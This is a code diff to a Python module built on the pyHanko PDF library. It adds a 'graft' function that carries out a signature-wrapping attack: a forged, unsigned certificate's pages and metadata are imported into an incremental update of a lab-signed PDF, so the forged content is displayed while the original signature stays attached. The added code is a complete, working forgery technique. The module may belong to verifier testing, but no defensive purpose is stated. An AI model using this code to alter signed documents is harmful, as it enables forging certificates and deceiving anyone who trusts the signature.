@@ -145,3 +145,23 @@ def sign_again(pdf: bytes, p12: bytes, passphrase: bytes, *, name: str) -> bytes
     out = io.BytesIO()
     signers.PdfSigner(meta, signer=signer).sign_pdf(writer, output=out)
     return out.getvalue()
+
+
+def graft(signed: bytes, forged: bytes) -> bytes:
+    """Signature wrapping by grafting: every page and the attachment of `forged` (a certificate
+    the attacker rendered himself, unsigned) imported into an update of the signed file whose
+    root now shows them, while its /AcroForm still carries the lab's signature."""
+    from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    source = PdfFileReader(io.BytesIO(forged), strict=False)
+    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
+    for key in ("/Pages", "/Names", "/StructTreeRoot", "/Outlines", "/Metadata"):
+        if key in source.root:
+            imported = writer.import_object(source.root.raw_get(key))
+            writer.root[generic.NameObject(key)] = imported
+    writer.update_root()
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
